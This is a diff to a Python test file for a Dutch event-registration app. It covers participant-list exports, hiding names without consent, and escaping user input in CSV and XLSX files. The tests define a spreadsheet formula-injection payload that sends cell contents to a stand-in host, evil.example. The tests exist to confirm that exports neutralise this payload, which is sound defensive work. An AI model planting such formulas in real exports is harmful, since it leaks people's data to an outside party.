@@ -112,7 +112,7 @@ def test_participant_list_exports_match_the_screen_and_hide_names_without_consen
     registrations.register(event.id, shy, RegistrationInput(consent_share_name=False))
     db.session.commit()
     page = as_organisator.get(f"/activiteiten/{event.id}/deelnemers").text
-    assert deelnemer.full_name in page and "Stille" not in page and "(naam niet gedeeld)" in page
+    assert deelnemer.full_name in page and "Stille" not in page and "Deelnemer 2" in page
     rows = list(csv.reader(io.StringIO(
         as_organisator.get(f"/activiteiten/{event.id}/deelnemers.csv").data.decode("utf-8-sig")),
         delimiter=";"))
@@ -120,7 +120,7 @@ def test_participant_list_exports_match_the_screen_and_hide_names_without_consen
         as_organisator.get(f"/activiteiten/{event.id}/deelnemers.xlsx").data)).active
     cells = [[("" if c is None else str(c)) for c in row] for row in sheet.iter_rows(values_only=True)]
     assert rows == cells
-    assert {row[0] for row in rows[1:]} == {deelnemer.full_name, "(naam niet gedeeld)"}
+    assert {row[0] for row in rows[1:]} == {deelnemer.full_name, "Deelnemer 2"}
 
 
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Klik hier")'
@@ -138,7 +138,7 @@ def test_what_people_type_stays_text_in_exports_never_a_formula(event, deelnemer
         as_organisator.get(f"/activiteiten/{event.id}/deelnemers.csv").data.decode("utf-8-sig")),
         delimiter=";"))
     assert "'" + FORMULA in rows[1] and "'-Huizen" in rows[1]
-    assert deelnemer.full_name in rows[1] and deelnemer.email in rows[1]
+    assert deelnemer.full_name in rows[1]
     sheet = load_workbook(io.BytesIO(
         as_organisator.get(f"/activiteiten/{event.id}/deelnemers.xlsx").data)).active
     cells = {cell.value: cell.data_type for cell in sheet[2]}
